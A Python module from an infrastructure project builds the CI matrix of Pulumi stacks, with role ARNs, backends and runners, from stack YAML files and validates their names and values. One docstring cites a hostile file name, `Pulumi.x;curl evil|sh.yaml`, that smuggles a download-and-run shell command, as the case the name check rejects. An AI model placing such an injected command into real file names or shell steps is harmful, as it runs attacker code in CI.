"""`higgsfield stacks`: the stack matrix the workflows run over, read from stacks/Pulumi.<stack>.yaml.

No workflow names a stack or a region: each reads this JSON (`fromJSON`), so adding a stack file
(and its policy config) is all it takes for checks, preview and deploy to include it. Only PyYAML
is needed (`python3 -m infra.offline.stacks`), so a workflow can list the stacks before it installs
the program. Each file is read by the one stack-file reader (infra/offline/stack_file.py: its bounds on
size, depth, aliases and types hold here too). A broken file affects only its own stack: it is
listed with `broken` (and said on stderr), so its own jobs fail on it and the other stacks' run;
the deploy matrix (`--delivered`) leaves it out. The names here (roles, runner project, backend)
are the ones components/delivery.py creates; `higgsfield check` validates each stack file in full.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import sys
from pathlib import Path
from typing import Any, NoReturn

from infra.core.names import DNS_LABEL as STACK_NAME
from infra.core.names import ENVIRONMENTS as ENVIRONMENT_ORDER
from infra.core.names import RUNNER_PURPOSES, role_name, runner_project
from infra.core.stack_values import terminal_safe

# The repository's OIDC subject template (PUT /repos/OWNER/REPO/actions/oidc/customization/sub):
# the default `repo` and `context` (pull_request, environment:ENV, ref:REF), then the workflow file
# (github/docs:content/actions/reference/security/oidc.md, "Customizing the subject claims").
SUB_CLAIM_KEYS = ("repo", "context", "job_workflow_ref")


class BrokenStack(Exception):
    """A stack file CI cannot take its matrix entry from: one line, `file:line: message`."""


def _text(value: Any) -> str | None:
    return value if isinstance(value, str) else None


def _entry(path: Path) -> dict[str, Any]:
    from infra.offline.stack_file import StackFileError, read

    stack = checked_stack_name(path)
    try:
        source = read(path)
    except StackFileError as exc:
        raise BrokenStack(f"stacks/{path.name}:{exc.line}: {exc.message}") from None
    config = source.config
    delivery = config.get("higgsfield:delivery") if isinstance(config.get("higgsfield:delivery"), dict) else {}
    entry: dict[str, Any] = {
        "stack": stack,
        "region": config.get("aws:region"),
        "environment": config.get("higgsfield:environment"),
    }
    if delivery:
        account = delivery.get("accountId")
        runner: dict[str, Any] = delivery["runner"] if isinstance(delivery.get("runner"), dict) else {}
        entry.update(
            {
                "deployEnvironment": delivery.get("deployEnvironment") or stack,
                "previewRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'preview')}",
                "deployRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'deploy')}",
                "imageRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'image')}",
                "account": str(account)
                if isinstance(account, (str, int)) and not isinstance(account, bool)
                else account,
                "backend": f"s3://{_text(delivery.get('stateBucket'))}?region={entry['region']}",
                **{
                    f"{p}Runner": runner_project(stack, p) if runner.get("enabled", True) is not False else ""
                    for p in RUNNER_PURPOSES
                },
            }
        )
    return entry


def checked_stack_name(path: Path) -> str:
    """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
    label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
    file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
    from infra.offline.option_files import OptionFileError

    stack = path.name[len("Pulumi.") : -len(".yaml")]
    if not re.fullmatch(STACK_NAME, stack):
        raise OptionFileError(
            f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, "
            "'-'): rename the file"
        )
    return stack


def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
    """What the matrix carries from a stack file into CI, refused unless it has the shape the
    config model would give it (the model itself runs in `plan`/`check`)."""
    for key, pattern in (
        ("region", r"[a-z]{2}(-[a-z]+)+-[0-9]"),
        ("environment", "|".join(ENVIRONMENT_ORDER)),
        ("account", r"[0-9]{12}"),
        ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}"),
    ):
        if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key], re.ASCII)):
            raise BrokenStack(
                f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; "
                f"run `higgsfield plan {entry['stack']}` for the stack's problems"
            )
    return entry


def stack_matrix(
    root: Path, delivered_only: bool = False, broken: list[str] | None = None, skip_bad_names: bool = False
) -> dict[str, list[dict[str, Any]]]:
    """`{"include": [...]}`, one entry per stack file in deploy order (environment, then name);
    with `delivered_only`, only stacks that set higgsfield:delivery (CI previews and deploys those).
    A stack file that cannot give an entry is `{"stack": NAME, "broken": "file:line: message"}`
    (left out with `delivered_only`), and its message is added to `broken`. A file whose name is no
    stack name is refused (OptionFileError: it must never reach a CI job), or with `skip_bad_names`
    left out (the other stacks' checks against their siblings)."""
    from infra.offline.option_files import OptionFileError

    if not (root / "stacks").is_dir():  # an empty matrix would run no CI job, and pass
        where = terminal_safe(str(root), 200)
        raise OptionFileError(
            f"{where}/stacks: is no folder of stack files; is {where} the project (the folder holding Pulumi.yaml)?"
        )
    entries = []
    for path in sorted((root / "stacks").glob("Pulumi.*.yaml")):
        try:
            stack = checked_stack_name(path)
        except OptionFileError:
            if skip_bad_names:
                continue
            raise
        try:
            entries.append(_checked(_entry(path), path))
        except BrokenStack as exc:
            if broken is not None:
                broken.append(str(exc))
            if not delivered_only:
                entries.append({"stack": stack, "region": None, "environment": None, "broken": str(exc)})
    if delivered_only:
        entries = [e for e in entries if "deployRole" in e]
    rank = {env: i for i, env in enumerate(ENVIRONMENT_ORDER)}
    return {"include": sorted(entries, key=lambda e: (rank.get(e["environment"], len(rank)), e["stack"]))}


class _Parser(argparse.ArgumentParser):
    def error(self, message: str) -> NoReturn:
        """A usage error in one line, what was typed escaped and cut (it lands in CI logs)."""
        print(terminal_safe(f"error: {self.prog}: {message} (see `{self.prog} --help`)", 500), file=sys.stderr)
        raise SystemExit(2)


def main(argv: list[str] | None = None) -> int:
    parser = _Parser(prog="higgsfield stacks", description=__doc__.splitlines()[0])
    parser.add_argument(
        "--delivered", action="store_true", help="only stacks with higgsfield:delivery (previewed and deployed by CI)"
    )
    parser.add_argument(
        "--root", type=Path, default=None, help="the project (default: the folder holding Pulumi.yaml, from here up)"
    )
    args = parser.parse_args(argv)
    from infra.core.project import project_root
    from infra.offline.option_files import OptionFileError

    if sys.stdout is None:  # started with stdout closed (`>&-`): the matrix could go nowhere
        print("error: standard output is closed: the matrix cannot be printed", file=sys.stderr)
        return 2
    broken: list[str] = []
    try:
        matrix = stack_matrix(args.root or project_root(), args.delivered, broken)
    except OptionFileError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    for message in broken:
        print(f"error: {message} (only this stack's jobs fail on it)", file=sys.stderr)
    try:
        print(json.dumps(matrix, separators=(",", ":")), flush=True)
    except BrokenPipeError:  # the reader went away (`| head -0`): nothing more to say
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 128 + 13
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
